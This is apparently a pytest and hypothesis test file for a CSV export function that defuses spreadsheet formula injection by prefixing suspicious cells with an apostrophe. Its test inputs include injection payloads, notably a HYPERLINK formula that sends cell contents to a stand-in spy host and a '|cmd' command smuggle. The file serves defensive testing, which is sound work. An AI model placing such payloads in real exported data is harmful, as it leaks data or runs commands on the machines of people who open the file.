"""What we export opens in a spreadsheet as text, whatever somebody wrote into it."""

import csv
from datetime import date
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amparo.exchange.lists.writing import safe_cell, write_csv


def cells_of(data):
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://spy.example/?"&A1)',
        "+1",
        "-1+1|cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "\u200b=1",
        "\ufeff=1",
        "\u202e=1",
        '"=1',
        "'=1",
    ],
)
def test_what_might_be_a_formula_begins_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text
    assert cells_of(write_csv([[text]]))[0][0].startswith("'")


@pytest.mark.parametrize("text", ["", "Imani", "a=b", "3 + 4", "قال", "1;=2"])
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text


def test_texts_are_quoted_so_that_no_other_separator_begins_a_cell():
    assert write_csv([["a;=1", "b\t=2", 'c"=3', -5, 2.5, True, None, date(2024, 4, 3)]]) == (
        b'\xef\xbb\xbf"a;=1","b\t=2","c""=3",-5,2.5,"true","","2024-04-03"\r\n'
    )


@given(st.lists(st.lists(st.text(max_size=10), min_size=1, max_size=4), max_size=5))
def test_any_rows_come_back_as_written_but_for_the_apostrophe(rows):
    kept = [[safe_cell(cell.replace("\0", "")) for cell in row] for row in rows]
    found = cells_of(write_csv(rows))
    assert [[cell.encode("utf-8", "replace").decode() for cell in row] for row in kept] == found


@given(st.text(max_size=20))
def test_no_cell_begins_as_a_formula_does(text):
    assert not safe_cell(text).lstrip().startswith(("=", "+", "-", "@"))
